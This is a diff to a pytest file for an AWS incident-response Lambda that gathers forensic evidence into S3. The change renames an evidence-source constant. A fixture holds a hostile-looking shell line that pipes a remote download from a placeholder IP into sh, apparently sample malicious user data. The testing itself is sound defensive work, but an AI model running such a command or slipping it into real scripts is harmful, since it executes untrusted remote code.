@@ -13,8 +13,8 @@ from typing import NamedTuple
 import pytest
 from botocore.exceptions import ClientError
 
-from lambdas.contain import evidence_sources as kinds_of_evidence
-from lambdas.contain.evidence_sources import KINDS
+from lambdas.contain import evidence_sources
+from lambdas.contain.evidence_sources import EVIDENCE_SOURCES
 from tests.lambdas.conftest import EVIDENCE
 from tests.samples import CASE, INSTANCE, ending
 
@@ -25,8 +25,8 @@ OTHER, MEMBER = "i-0b57a4de7b57a4de7", "444455556666"
 LATER = "arn:aws:states:eu-central-1:552071934480:execution:respond:later"
 FOLDER = f"cases/{CASE}/{INSTANCE}/one"
 BEFORE = f"cases/{CASE}/{INSTANCE}/before-state.json"
-NAMES = {kind.name for kind in KINDS}
-OPTIONAL = {kind.name for kind in KINDS if kind.optional}
+NAMES = {kind.name for kind in EVIDENCE_SOURCES}
+OPTIONAL = {kind.name for kind in EVIDENCE_SOURCES if kind.optional}
 USER_DATA = b"#!/bin/sh\ncurl https://203.0.113.9/x | sh\n"
 RIGHTS = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}
 
@@ -112,7 +112,8 @@ def test_the_manifest_vouches_for_every_file(collect, suspect, bucket):
     stored = bucket.bytes(f"{FOLDER}/manifest.json")
     assert ending(result) == {
         "outcome": "done",
-        "words": f"{len(KINDS)} files, manifest s3://{EVIDENCE}/{FOLDER}/manifest.json (sha256 {result['sha256']}); "
+        "words": f"{len(EVIDENCE_SOURCES)} files, manifest s3://{EVIDENCE}/{FOLDER}/manifest.json "
+        f"(sha256 {result['sha256']}); "
         "not read: before-state.json: the case keeps no state before of this instance",
         "manifest": f"{FOLDER}/manifest.json",
         "sha256": hashlib.sha256(stored).hexdigest(),
@@ -211,7 +212,7 @@ def test_nobody_presses_a_key_for_the_screenshot(collect, fleet, calls):
 def test_s3_is_given_the_hash_of_each_file_and_told_to_overwrite_nothing(collect, bucket, calls):
     puts = calls(bucket.s3, "PutObject")
     collect()
-    assert len(puts) == len(KINDS) + 1
+    assert len(puts) == len(EVIDENCE_SOURCES) + 1
     for put in puts:
         assert put["IfNoneMatch"] == "*"
         assert put["ChecksumSHA256"] == base64.b64encode(hashlib.sha256(bucket.bytes(put["Key"])).digest()).decode()
@@ -320,12 +321,12 @@ def test_where_all_is_refused_the_manifest_says_so(collect, bucket, refuse_one):
 
 
 def test_an_answer_that_nobody_expects_costs_its_own_file(collect, bucket, monkeypatch):
-    whole = kinds_of_evidence._whole
+    whole = evidence_sources._whole
 
     def odd(instance, service, operation, **parameters):
         return {} if service == "elb" else whole(instance, service, operation, **parameters)
 
-    monkeypatch.setattr(kinds_of_evidence, "_whole", odd)
+    monkeypatch.setattr(evidence_sources, "_whole", odd)
     result = collect()
     assert bucket.vouched_for() == NAMES - {"classic-load-balancers.json"}
     assert "classic-load-balancers.json: KeyError('LoadBalancerDescriptions')" in result["words"]
@@ -333,7 +334,7 @@ def test_an_answer_that_nobody_expects_costs_its_own_file(collect, bucket, monke
 
 
 def test_a_console_without_output_yet_is_no_failure(collect, monkeypatch):
-    monkeypatch.setattr(kinds_of_evidence, "_said", lambda *_, **__: {"InstanceId": INSTANCE, "Output": ""})
+    monkeypatch.setattr(evidence_sources, "_said", lambda *_, **__: {"InstanceId": INSTANCE, "Output": ""})
     result = collect()
     assert "console-output.json: AWS shows none" in result["words"]
     assert "screenshot.jpg: AWS shows none" in result["words"]
@@ -394,7 +395,7 @@ def crash(hook):
 
 def test_after_a_crash_at_any_put_the_next_try_completes_it(collect, fleet, bucket, crash):
     """What was stored stays, also where AWS says something else by now; the manifest is of what is stored."""
-    for number in (1, 2, len(KINDS) // 2, len(KINDS), len(KINDS) + 1):
+    for number in (1, 2, len(EVIDENCE_SOURCES) // 2, len(EVIDENCE_SOURCES), len(EVIDENCE_SOURCES) + 1):
         name = f"crash-{number}"
         execution, folder = LATER.replace("later", name), FOLDER.replace("one", name)
         undo = crash(bucket.s3, "PutObject", number)
@@ -428,7 +429,7 @@ def test_after_a_crash_behind_the_manifest_the_next_try_adds_nothing(collect, bu
 
 
 def test_what_only_an_earlier_try_could_read_is_in_the_manifest(collect, fleet, bucket, crash, refuse):
-    undo = crash(bucket.s3, "PutObject", len(KINDS) + 1)  # all but the manifest
+    undo = crash(bucket.s3, "PutObject", len(EVIDENCE_SOURCES) + 1)  # all but the manifest
     with pytest.raises(Crash):
         collect()
     undo()
@@ -463,7 +464,7 @@ def test_a_manifest_that_cannot_be_read_back_is_not_called_done(collect, bucket,
 
 
 def test_cloudtrail_is_asked_for_some_pages_only(collect, fleet, bucket, moto, monkeypatch):
-    monkeypatch.setattr(kinds_of_evidence, "_BETWEEN_PAGES_SECONDS", 0)
+    monkeypatch.setattr(evidence_sources, "_BETWEEN_PAGES_SECONDS", 0)
     asked = []
 
     def page(params, **_):
